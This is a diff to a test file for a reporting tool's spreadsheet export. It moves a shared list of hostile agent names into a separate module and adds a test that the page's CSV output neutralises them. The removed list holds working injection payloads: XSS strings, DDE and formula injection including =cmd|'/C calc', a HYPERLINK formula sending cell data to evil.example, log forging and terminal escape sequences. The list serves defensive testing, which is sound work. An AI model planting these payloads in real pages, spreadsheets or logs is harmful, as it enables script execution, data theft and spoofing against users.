@@ -6,38 +6,9 @@ import { createLogger } from '../../src/lib/log.ts';
 import { reportOf } from '../../src/report/changes.ts';
 import { reportCsv } from '../../src/report/index.ts';
 import { reportPage } from '../../src/report/page.ts';
+import { csvOf } from '../../src/web/lib/csv.ts';
 import { answersOf, item } from '../report/items.ts';
-
-/** Names that people gave their agents: pages, spreadsheets, logs and terminals must take them as names. */
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'><svg/onload=alert(1)>",
-  '</td></table><iframe src="javascript:alert(1)">',
-  '<style>@import "//evil.example"</style>',
-  '&lt;script&gt;',
-  '<!--',
-  '{{constructor.constructor("alert(1)")()}}',
-  'javascript:alert(1)',
-  '=HYPERLINK("https://evil.example/"&A1)',
-  "=cmd|'/C calc'!A0",
-  '+1+cmd|x',
-  '-2+3+cmd|x',
-  '@SUM(1+1)*cmd|x',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝1+1',
-  '"=1+1',
-  'a","=1+1',
-  'a\r\n=1+1,b',
-  'x\n{"level":50,"msg":"forged"}',
-  '\u001b[2J\u001b]0;owned\u0007',
-  '\u202eevil\u202c',
-  '\u0000',
-];
-
-const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
+import { FORMULA, HOSTILE } from './hostile.ts';
 
 describe('spreadsheets', () => {
   test.for(HOSTILE)('%j stays one cell, and no formula', (name) => {
@@ -49,6 +20,15 @@ describe('spreadsheets', () => {
     expect(row[1]).toBe('next');
     expect(row[0]).not.toMatch(FORMULA);
     expect([name, `'${name}`]).toContain(row[0]);
+  });
+
+  test.for(HOSTILE)('%j in what the page saves as well', (name) => {
+    const [row = []] = parseCsv(csvOf(['a', 'b'], [[name, 'next']]), {
+      from: 2,
+      relax_column_count: false,
+    }) as string[][];
+    expect(row[0]).not.toMatch(FORMULA);
+    expect([row.length, row[1]]).toEqual([2, 'next']);
   });
 
   test('whatever the text', () => {
